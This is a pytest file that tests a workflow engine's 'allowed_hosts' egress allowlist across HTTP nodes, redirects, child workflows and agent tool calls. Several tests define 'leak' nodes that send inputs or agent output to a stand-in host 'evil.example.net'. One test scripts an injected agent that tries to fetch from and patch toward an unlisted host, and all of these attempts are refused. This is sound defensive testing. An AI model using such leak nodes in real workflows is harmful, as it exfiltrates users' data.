"""A workflow's ``metadata.allowed_hosts`` (``workflows.egress``) on real workers: every request a
node of the run makes goes only to the hosts its author listed, whoever wrote the node (an agent's
patch, a reference an input fills) and at every redirect hop; a literal URL off the list is refused
when the workflow is saved or patched, naming the rule. The remote stands at 127.0.0.1 (the
workers' SSRF allowlist opens its port only): ``api.example.com`` is a host the list may name
instead, and no request ever goes there (the hop is refused before any lookup)."""

from __future__ import annotations

from typing import Any

from tests.agents.flows import add_after, agent, tool_messages
from tests.conftest import wait_for_run
from tests.workers.test_http_node import http
from workflows.models import NodeRun, PatchRefusal, Run


def start(api: Any, nodes: list[dict[str, Any]], hosts: list[str] | None, inputs: dict[str, Any] | None = None,
          edges: list[dict[str, str]] | None = None) -> Any:
    definition: dict[str, Any] = {"nodes": nodes, "edges": edges or []}
    if hosts is not None:
        definition["metadata"] = {"allowed_hosts": hosts}
    return api.post("/api/v1/runs", {"workflow": definition, "inputs": inputs or {}}, format="json")


def finished(answer: Any) -> tuple[Run, dict[str, NodeRun]]:
    assert answer.status_code == 201, answer.json()
    run = wait_for_run(answer.json()["run_id"])
    return run, {nr.node_id: nr for nr in NodeRun.objects.filter(run=run)}


def test_a_url_an_input_fills_goes_only_to_a_listed_host(engine, api, remote):
    nodes = [http("call", "${inputs.url}")]
    inputs = {"url": f"{remote.base}/echo/filled"}

    run, by_node = finished(start(api, nodes, ["api.example.com"], inputs))

    assert run.status == "failed"
    error = by_node["call"].error
    assert (error["error_type"], error["rule"], error["host"]) == ("SSRFBlocked", "host_not_allowed", "127.0.0.1")
    assert "allowed_hosts" in error["message"] and "api.example.com" in error["message"]
    assert remote.hits("/echo/filled") == []
    # the same run with the remote's host listed, and with no list: the request goes
    for hosts in (["127.0.0.1", "*.example.com"], None):
        run, by_node = finished(start(api, nodes, hosts, inputs))
        assert run.status == "completed", run.error
    assert len(remote.hits("/echo/filled")) == 2


def test_a_listed_host_s_redirect_elsewhere_is_refused_at_the_hop(engine, api, remote):
    nodes = [http("call", f"{remote.base}/redirect?to=https://files.example.org/x")]

    run, by_node = finished(start(api, nodes, ["127.0.0.1"]))

    assert run.status == "failed"
    error = by_node["call"].error
    assert (error["rule"], error["host"]) == ("host_not_allowed", "files.example.org")
    assert len(remote.hits("/redirect")) == 1


def test_a_literal_url_off_the_list_is_refused_when_saved_naming_the_node(api, remote):
    answer = start(api, [http("ok", f"{remote.base}/echo"), http("leak", "https://evil.example.net/${inputs.q}")],
                   ["127.0.0.1"])

    assert answer.status_code == 400
    details = answer.json()["details"]
    assert [(e["path"], e["rule"]) for e in details["errors"]] == [("/nodes/1/config/url", "host_not_allowed")]
    bad = start(api, [http("ok", f"{remote.base}/echo")], ["Not A Host"])
    assert bad.status_code == 400 and bad.json()["details"]["errors"][0]["rule"] == "schema.pattern"


def test_an_injected_agent_s_requests_stay_on_the_list(engine, api, user, fake_llm, remote):
    """The agent's fetch (``execute_pipeline``) and the node its patch adds both aim at the remote,
    which the author did not list: the fetch comes back to the model refused, the patch is refused
    naming the rule (a literal origin), and a node it adds whose URL a reference fills fails at the
    send. Nothing reaches the remote."""
    fetch = {"steps": [{"op": "http_request", "url": f"{remote.base}/echo/fetched"}]}
    literal = add_after("plan", http("leak", f"{remote.base}/echo/leaked"))
    filled = add_after("plan", http("late", "$nodes.plan.message"))
    fake_llm.reset([
        {"tool_calls": [("execute_pipeline", fetch), ("patch_workflow", {"operations": literal}),
                        ("patch_workflow", {"operations": filled})]},
        {"content": f"{remote.base}/echo/late"},
    ])

    run, by_node = finished(start(api, [agent(tools=["execute_pipeline", "patch_workflow"])], ["api.example.com"]))

    results = tool_messages(fake_llm.requests[1])
    assert (results[0]["status"], results[0]["error"], results[0]["rule"]) == ("error", "SSRFBlocked",
                                                                              "host_not_allowed")
    assert (results[1]["status"], results[1]["details"]["rule"]) == ("error", "host_not_allowed")
    assert results[2]["status"] == "applied"
    assert list(PatchRefusal.objects.filter(run=run).values_list("rule", flat=True)) == ["host_not_allowed"]
    assert by_node["plan"].status == "completed"
    assert (by_node["late"].status, by_node["late"].error["rule"]) == ("failed", "host_not_allowed")
    assert run.status == "failed"
    assert remote.hits("/echo") == []


def test_a_child_workflow_s_requests_stay_on_its_parent_s_list(engine, api, user, remote):
    """A ``workflow`` node's child runs under its parent's list as well as its own (as under its
    parent's spend ceilings): a child without one, whose URL an input fills, reaches no host its
    parent's author left off. The control: the same parent without a list lets it go."""
    from subflows.models import SubRun
    from workflows.services.definitions import workflow_save

    workflow_save(owner=user, tag="fetcher", definition={"nodes": [http("get", "${inputs.url}")], "edges": []})
    nodes = [{"id": "child", "type": "workflow", "config": {"tag": "fetcher", "inputs": {"url": "$inputs.url"}}}]
    inputs = {"url": f"{remote.base}/echo/child"}

    run, _ = finished(start(api, nodes, ["api.example.com"], inputs))

    assert run.status == "failed"
    child = SubRun.objects.get(parent_run=run).child_run
    assert child.hosts_above == [["api.example.com"]]
    error = NodeRun.objects.get(run=child, node_id="get").error
    assert (error["rule"], error["host"]) == ("host_not_allowed", "127.0.0.1")
    # its owner's replay of the child is still bound by the parent's list
    replay = api.post(f"/api/v1/runs/{child.pk}/nodes/get/replay", {}, format="json")
    assert replay.status_code == 201, replay.json()
    again = wait_for_run(replay.json()["run_id"])
    assert (again.status, again.hosts_above) == ("failed", [["api.example.com"]])
    assert remote.hits("/echo/child") == []

    run, _ = finished(start(api, nodes, None, inputs))
    assert run.status == "completed", run.error
    assert SubRun.objects.get(parent_run=run).child_run.hosts_above is None
    assert len(remote.hits("/echo/child")) == 1


def test_a_wildcard_names_host_names_and_a_list_that_is_no_list_allows_nothing():
    from workflows import egress

    assert egress.allows("files.example.com", ["*.example.com"]) and egress.allows("a.b.example.com", ["*.example.com"])
    assert not any(egress.allows(host, ["*.example.com"]) for host in ("example.com", "badexample.com",
                                                                        "example.com.evil.net"))
    # an address is no name: a numeric wildcard matches neither an IPv4 nor an IPv6 address ending so
    assert not egress.allows("9.2.3.4", ["*.2.3.4"]) and not egress.allows("2600::1.2.3.4", ["*.2.3.4"])
    assert egress.allows("1.2.3.4", ["1.2.3.4"])
    assert egress.of({}) is None and egress.of({"allowed_hosts": "api.example.com"}) == ()
    assert egress.binding({"allowed_hosts": ["a.example"]}, [["b.example"], "junk"]) == (
        ("a.example",), ("b.example",), ())  # what is no list allows nothing
    assert egress.binding({}, '[["b.example"]]') == ((),) and egress.binding({}, None) == ()
    assert egress.refusing("a.example", (("a.example",), ("b.example",))) == ("b.example",)


def test_an_agent_s_api_call_stays_on_the_list_and_the_operator_s_document_loads_whatever_it_says(
        engine, api, user, fake_llm, remote):
    """``openapi_action`` calls the registered API (the remote) as any request of the run: off the
    list, refused, the model told the rule. The API's document is the operator's registration, kept
    by the process for every run: it loads whatever a run's list says (else it loaded or not by which
    run a worker served first)."""
    from agents.tools import openapi
    from workers.http import SSRFBlocked, request
    from workflows import egress

    call = {"api": "remote", "operation_id": "getItem", "parameters": {"item_id": "7"}}
    fake_llm.reset([{"tool_calls": [("openapi_action", call)]}, {"content": "done"}])

    run, _ = finished(start(api, [agent(tools=["openapi_action"])], ["api.example.com"]))

    assert run.status == "completed", run.error
    result = tool_messages(fake_llm.requests[1])[0]
    assert (result["status"], result["rule"]) == ("error", "host_not_allowed")
    assert remote.hits("/echo") == []

    remote.script("spec", [{"openapi": "3.0.0", "paths": {}}])
    openapi._load.cache_clear()
    with egress.only((("api.example.com",),)):
        assert openapi._load(f"{remote.base}/seq/spec") == {"openapi": "3.0.0", "paths": {}}
        try:
            request(method="GET", url=f"{remote.base}/echo/inside")
        except SSRFBlocked as exc:
            assert exc.rule == "host_not_allowed"
        else:
            raise AssertionError("a request inside the list's context went to a host off it")
    openapi._load.cache_clear()
    assert remote.hits("/echo/inside") == []


def test_a_child_s_patch_is_judged_by_its_parents_lists_too():
    """The early refusal reads the same lists as the send: the run's own and those above it."""
    import pytest

    from workflows.services.patches import PatchRejected
    from workflows.services.patches.policy import Proposer, RunState, judge

    before = {"nodes": [agent(tools=["patch_workflow"])], "edges": []}
    leak = add_after("plan", http("leak", "https://evil.example.net/${nodes.plan.message}"))
    running = {"statuses": {"plan": "running"}, "started": frozenset({"plan"})}

    with pytest.raises(PatchRejected) as refused:
        judge(before=before, operations=leak, proposer=Proposer(agent=True, node_id="plan"),
              state=RunState(**running, hosts_above=[["api.example.com"]]))
    assert (refused.value.extra["rule"], refused.value.extra["op"], refused.value.extra["host"]) == (
        "host_not_allowed", 0, "evil.example.net")
    assert judge(before=before, operations=leak, proposer=Proposer(agent=True, node_id="plan"),
                 state=RunState(**running)).after["nodes"][-1]["id"] == "leak"


def test_a_person_s_patch_to_a_parent_s_list_binds_the_children_already_running(engine, api, user, remote):
    """The owner narrows a running parent's ``allowed_hosts``: the sub-workflows it started, and
    theirs, run under the new list from their next node on (before, each kept the list it started
    with). A leaf two levels down waits on a gate, then fetches the remote at 127.0.0.1; the control
    narrows the list to that host and the fetch goes out."""
    from subflows.models import SubRun
    from tests.approvals.runs import approval_of, decide
    from tests.engine.flow import wait_until
    from workflows.services.definitions import workflow_save

    gate = {"id": "review", "type": "hitl", "config": {"message": "fetch?", "approvers": [user.username]}}
    workflow_save(owner=user, tag="leaf", definition={
        "nodes": [gate, http("get", "${inputs.url}")], "edges": [{"from": "review", "to": "get"}]})
    workflow_save(owner=user, tag="middle", definition={"nodes": [
        {"id": "leaf", "type": "workflow", "config": {"tag": "leaf", "inputs": {"url": "$inputs.url"}}}], "edges": []})
    nodes = [{"id": "middle", "type": "workflow", "config": {"tag": "middle", "inputs": {"url": "$inputs.url"}}}]

    def child_of(run_id: Any) -> Any:
        return wait_until(lambda: SubRun.objects.filter(parent_run_id=run_id).values_list("child_run_id", flat=True)
                          .first(), what="the child run")

    def tree(narrowed_to: list[str], path: str) -> tuple[Run, Run]:
        answer = start(api, nodes, ["127.0.0.1", "api.example.com"], {"url": f"{remote.base}{path}"})
        assert answer.status_code == 201, answer.json()
        parent = answer.json()["run_id"]
        middle = child_of(parent)
        leaf = child_of(middle)
        approval = approval_of(str(leaf))
        patched = api.post(f"/api/v1/runs/{parent}/patches", {"operations": [
            {"op": "replace", "path": "/metadata/allowed_hosts", "value": narrowed_to}]}, format="json")
        assert patched.status_code == 201, patched.json()
        assert Run.objects.get(pk=middle).hosts_above == [narrowed_to]
        assert Run.objects.get(pk=leaf).hosts_above == [narrowed_to]
        assert decide(user, approval).status_code == 200
        return wait_for_run(parent), wait_for_run(leaf)

    parent, leaf = tree(["api.example.com"], "/echo/narrowed")
    error = NodeRun.objects.get(run=leaf, node_id="get").error
    assert (leaf.status, error["rule"], error["host"]) == ("failed", "host_not_allowed", "127.0.0.1"), error
    assert parent.status == "failed" and remote.hits("/echo/narrowed") == []

    parent, leaf = tree(["127.0.0.1"], "/echo/kept")  # the control: the fetched host still listed
    assert (parent.status, leaf.status) == ("completed", "completed"), (parent.error, leaf.error)
    assert len(remote.hits("/echo/kept")) == 1
